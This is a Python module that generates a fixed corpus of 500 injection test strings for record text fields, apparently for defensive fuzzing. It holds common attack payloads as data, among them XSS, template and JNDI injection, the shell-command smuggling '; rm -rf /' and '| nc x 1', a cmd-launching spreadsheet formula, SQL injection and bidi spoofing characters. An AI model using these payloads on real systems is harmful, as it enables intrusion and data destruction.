"""Five hundred strings as an attacker would put them where records hold text: the same ones every time."""

MARK = "INJECTED"
"""What would stand at the start of an injected line, label or tag."""
COUNT = 500
_LINES = (
    "\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\n\n", "\r\n\r\n", "\r\n.\r\n", "\x00\n",
)  # fmt: skip
_CONTROL = (
    "\x00", "\x07", "\x08", "\x1b[2J", "\x1b[31m", "\x1b]0;t\x07", "\x1b]8;;http://x\x1b\\", "\x9b1m", "\x7f",
    "\x90q\x9c", "\x1bP1$r\x1b\\", "\x1b[6n", "\x0e", "\x1bc", "\x1b[?1049h", "\ufff9", "\x1a", "\x04", "\x16",
    "\x1f",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><b>", "\"><svg/onload=alert(1)>",
    "' onclick='x", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#60;b&#62;", "</title><style>*{}</style>",
    "javascript:alert(1)", "<a href=\"javascript:x\">y</a>", "<iframe srcdoc=x>", "</svg><script>",
    "<math><mi xlink:href=x>", "`<b>`", "<base href=//x>", "<meta http-equiv=refresh content=0>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;", "[a](javascript:x)", "![a](http://x/y)", "**b**",
    "# h", "- x", "|a|b|", "```", "~~~", "> q", "[x]: http://y", "---",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% include 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ range . }}x{{ end }}",
    "%s%n%x", "{0}", "{x.__class__}", "${jndi:ldap://x/y}", "$(id)", "`id`", "; rm -rf /", "| nc x 1", "&& id",
    "%0d%0aX: y", "{{template \"x\"}}",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x")', "\t=1", "\r=1", "%=1", ";=1",
)  # fmt: skip
_LABELS = (
    "\"} 1", "a\"} 1\nspanline_x{a=\"b\"} 1", "a\\", "a\\\"", "\",tier=\"page", "a=b", "{a=\"b\"}",
    "# TYPE x counter", "# EOF", "\\n", "a,b", "x=1 cs1=2", "a|b|c", "CEF:0|a|b|c|d|e|9|act=x", "\\", "\\\\", "\\|",
    "\\=", "<13>1 2024-01-01T00:00:00Z h a", "Bcc: x@y", "X-Header: y", "\",\"tier\":\"page\",\"x\":\"",
    "}\n{\"id\":\"x\"}", "'; DROP TABLE incidents;--", "' OR 1=1--",
)  # fmt: skip
_DIRECTION = (
    "\u202egnp.exe", "\u202d", "\u2066x\u2069", "\u200f", "\u200e", "\u061c", "\u2067", "\u202a\u202c", "a\u200bb",
    "a\u200db", "\ufeffa", "\u00ad", "\u2060", "\U000e0041\U000e0042", "\ufe0f", "\u034f", "\u180e", "\u115f",
)  # fmt: skip
_BROKEN = (
    "\ud800", "\udfff", "a\ud83d", "\udc00\ud800", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "e\u0301" * 40,
    "\u0344",
)  # fmt: skip
_LONG = (
    "a" * 10_000, "\u20ac" * 5_000, "<b>" * 3_000, "\n" * 4_000, "a b" * 4_000, "\x1b[1m" * 2_000, "." * 300,
    "\\" * 999,
)  # fmt: skip
_ALL = (_LINES, _CONTROL, _MARKUP, _TEMPLATES, _FORMULAS, _LABELS, _DIRECTION, _BROKEN)
_FORMS = ("{0}\t{0}", "{0}", "a{0}" + MARK, "{0}" + MARK + "=1", "{0}\n" + MARK, '"{0}')


def strings():
    """Return them: each kind alone, before and behind other text, and followed by a line of its own."""
    made = list(dict.fromkeys(form.replace("{0}", one) for kind in _ALL for one in kind for form in _FORMS))
    step = len(made) / (COUNT - len(_LONG))
    return [*_LONG, *(made[int(k * step)] for k in range(COUNT - len(_LONG)))]
